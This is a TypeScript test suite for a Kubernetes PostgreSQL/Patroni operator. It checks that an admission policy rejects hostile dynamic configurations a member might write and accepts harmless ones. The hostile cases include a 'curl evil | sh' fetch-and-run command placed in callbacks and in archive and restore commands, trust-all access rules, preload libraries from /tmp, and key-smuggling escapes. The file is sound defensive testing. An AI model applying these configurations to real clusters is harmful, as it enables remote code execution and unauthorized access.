import { expect } from 'chai';
import fc from 'fast-check';
import type { Database } from '../../../database/object.ts';
import { modelOf } from '../../../generator/model.ts';
import { dynamicConfiguration } from '../../../generator/postgresql/settings.ts';
import type { Reply } from '../../cluster/api.ts';
import type { Api } from '../../cluster/api.ts';
import { controlPlaneOrSkip } from '../../cluster/control-plane-or-skip.ts';
import { isComplete } from '../../complete.ts';
import { admit, writtenAs } from '../../generator/databases.ts';
import { NO_SETTINGS } from '../../../database/settings.ts';
import type { Stage } from './member-stage.ts';
import { at, database, makeStage, send } from './member-stage.ts';

const SAMPLES = isComplete ? 2000 : 150;
const ORDERS = database('orders');
const LABELS = {
  'app.kubernetes.io/component': 'database',
  'app.kubernetes.io/managed-by': 'ballast',
  'db.example.com/database': 'orders',
};

/** As Python's json.dumps writes it, which Patroni uses: without blanks, everything beyond ASCII as an escape. */
function patroniText(value: unknown): string {
  const escape = (char: string): string => `\\u${char.charCodeAt(0).toString(16).padStart(4, '0')}`;
  return JSON.stringify(value).replace(/[\u007f-\uffff]/g, (char) => (char === '\u007f' ? char : escape(char)));
}

const configurationOf = (one: Database): Record<string, unknown> =>
  dynamicConfiguration(modelOf(one, NO_SETTINGS)) as Record<string, unknown>;

type Sections = Readonly<Record<string, unknown>>;
const PLAIN = configurationOf(ORDERS);
const POSTGRESQL = PLAIN['postgresql'] as Sections;
const PARAMETERS = POSTGRESQL['parameters'] as Sections;

const top = (more: Sections): string => patroniText({ ...PLAIN, ...more });
const inPostgresql = (more: Sections): string => top({ postgresql: { ...POSTGRESQL, ...more } });
const parameter = (name: string, value: unknown): string =>
  inPostgresql({ parameters: { ...PARAMETERS, [name]: value } });
const PROGRAM = 'curl evil | sh';

/** Configurations that an attacker with a stolen token would write so that other members run a program, or accept a login. */
const HOSTILE: Readonly<Record<string, string>> = {
  'a callback': inPostgresql({ callbacks: { on_start: PROGRAM } }),
  'a callback at the top': top({ callbacks: { on_start: PROGRAM } }),
  'a program before promotion': inPostgresql({ pre_promote: PROGRAM }),
  'a program before the stop': inPostgresql({ before_stop: PROGRAM }),
  'a way to make replicas': inPostgresql({ create_replica_methods: ['evil'], evil: { command: PROGRAM } }),
  'the same in its old spelling': inPostgresql({ create_replica_method: ['evil'] }),
  'an option of pg_basebackup': inPostgresql({ basebackup: [{ waldir: '/tmp' }] }),
  'another option in the place of the one that is there': inPostgresql({
    basebackup: { checkpoint: 'fast', target: 'server:/tmp' },
  }),
  'names of programs': inPostgresql({ bin_name: { postgres: '/var/lib/ballast/evil' } }),
  'a folder of programs': inPostgresql({ bin_dir: '/var/lib/ballast' }),
  'another configuration file': inPostgresql({ custom_conf: '/var/lib/ballast/evil.conf' }),
  'a file for passwords': inPostgresql({ pgpass: '/tmp/x' }),
  'a recovery configuration': inPostgresql({ recovery_conf: { restore_command: PROGRAM } }),
  'rules of access': inPostgresql({ pg_hba: ['host all all all trust'] }),
  'a map of identities': inPostgresql({ pg_ident: ['x all postgres'] }),
  'another data directory': inPostgresql({ data_dir: '/tmp' }),
  'another login': inPostgresql({ authentication: { superuser: { username: 'evil' } } }),
  'a copy of another cluster': top({ standby_cluster: { host: 'evil', port: 5432, restore_command: PROGRAM } }),
  'the removal of data that diverged': inPostgresql({ remove_data_directory_on_diverged_timelines: true }),
  'a command for archiving': parameter('archive_command', PROGRAM),
  'a command beside ours': parameter('archive_command', `${String(PARAMETERS['archive_command'])}; ${PROGRAM}`),
  'our command with the archive of another Database': parameter(
    'archive_command',
    String(PARAMETERS['archive_command']).replace('=orders ', '=billing '),
  ),
  'our command and, in capitals, another': parameter('ARCHIVE_COMMAND', PROGRAM),
  'no command': parameter('archive_command', null),
  'a library for archiving': parameter('archive_library', 'x'),
  'a command for restoring': parameter('restore_command', PROGRAM),
  'the same in capitals': parameter('Restore_Command', PROGRAM),
  'the end of a recovery': parameter('recovery_end_command', PROGRAM),
  'the clean-up of an archive': parameter('archive_cleanup_command', PROGRAM),
  'a passphrase': parameter('ssl_passphrase_command', PROGRAM),
  'a library by its path': parameter('shared_preload_libraries', '/var/lib/ballast/pgdata/x.so'),
  'one among others': parameter('shared_preload_libraries', 'pg_stat_statements,/tmp/x'),
  'one that leads out of the library folder': parameter('session_preload_libraries', '$libdir/../../x'),
  'one in capitals': parameter('LOCAL_PRELOAD_LIBRARIES', '/tmp/x'),
  'a folder of libraries': parameter('dynamic_library_path', '/tmp'),
  'a provider by its path': parameter('jit_provider', '/tmp/x'),
  'a library that judges tokens': parameter('oauth_validator_libraries', '/tmp/x'),
  'a folder of extensions': parameter('extension_control_path', '/tmp'),
  'a file of settings': parameter('include', '/tmp/x'),
  'a file of access rules': parameter('hba_file', '/tmp/x'),
  'a folder for logs': parameter('log_directory', '/tmp'),
  'a name in escapes': top({}).replace('"ttl":', String.raw`"\u0063allbacks":{"on_start":"x"},"ttl":`),
  'a setting in escapes': parameter('x', PROGRAM).replace('"x":', String.raw`"restore\u005fcommand":`),
  'the same twice, the second one ours': parameter('x', PROGRAM).replace('"x":', '"archive_command":'),
  'a quote that is escaped': parameter('x', 'a","restore_command":"b'),
  'blanks before a colon': parameter('x', PROGRAM).replace('"x":', '"restore_command" :'),
  'a line end before a colon': parameter('x', PROGRAM).replace('"x":', '"restore_command"\n:'),
  'blanks in front': ` ${inPostgresql({ pre_promote: PROGRAM })}`,
  'no JSON at all': 'callbacks: {on_start: x}',
  nothing: '',
  'a list': '[]',
  'a slot with a library by its path': top({ slots: { x: { type: 'logical', plugin: '/tmp/x' } } }),
  'so much that it would take long': parameter('x', 'a'.repeat(200_000)),
};

/** Configurations that a user may have written, also with patronictl in a member's container. */
const HARMLESS: Readonly<Record<string, string>> = {
  'the configuration of a Database with backups': top({}),
  'a pause': top({ pause: true }),
  'slots of its own': top({ slots: { audit: { type: 'logical', database: 'app', plugin: 'pgoutput' } } }),
  'times and counts': top({ synchronous_node_count: 2, member_slots_ttl: '30min', primary_stop_timeout: 10 }),
  'installed libraries': parameter('shared_preload_libraries', '$libdir/auto_explain, pg_stat_statements'),
  'values that look like names': parameter('log_line_prefix', '%m {restore_command:} [x]'),
  'what a rewind may remove': inPostgresql({ remove_data_directory_on_rewind_failure: false }),
};

describe('The dynamic configuration that a member writes', function () {
  this.timeout(600_000);
  let stage: Stage | undefined;
  let member: Api;

  const write = (config: string): Promise<Reply> => {
    const metadata = { name: 'orders-config', labels: LABELS, annotations: { config } };
    return send(member, { method: 'POST', path: at('configmaps'), body: { metadata } }, true);
  };

  before(async function () {
    const plane = await controlPlaneOrSkip(this);
    stage = await makeStage(plane, [ORDERS]);
    member = await stage.as('ballast-member-orders', 'orders-0');
    await send(stage.admin, { method: 'DELETE', path: at('configmaps/orders-config') });
  });

  after(() => {
    stage?.end();
  });

  for (const [what, config] of Object.entries(HARMLESS)) {
    it(`may hold ${what}`, async () => {
      const { code, message } = await write(config);
      expect(code, message).equal(201);
    });
  }

  for (const [what, config] of Object.entries(HOSTILE)) {
    it(`may not hold ${what}`, async () => {
      const { code, message } = await write(config);
      expect(code, message).equal(422);
      expect(message).match(/ValidatingAdmissionPolicy.*(a member may|exceeded|cost)/);
    });
  }

  it(`may be that of any Database that the rules let in (${SAMPLES} of them)`, async () => {
    const named = writtenAs('orders')
      .filter(({ spec }) => spec['engine'] === 'postgresql')
      .map(admit);
    const sizes: number[] = [];
    const property = fc.asyncProperty(named, async (one) => {
      const text = patroniText(configurationOf(one));
      sizes.push(text.length);
      const { code, message } = await write(text);
      expect(code, `${message}: ${text}`).equal(201);
    });
    await fc.assert(property, { numRuns: SAMPLES });
    expect(sizes.length).at.least(SAMPLES);
  });

  it('may be as large as a Database’s parameters can make it in practice: 128 of 300 characters', async () => {
    const many = Array.from({ length: 128 }, (_, index) => [`a.b${index}`, 'x'.repeat(300)]);
    const text = inPostgresql({ parameters: { ...PARAMETERS, ...(Object.fromEntries(many) as Sections) } });
    const { code, message } = await write(text);
    expect(code, message).equal(201);
  });
});
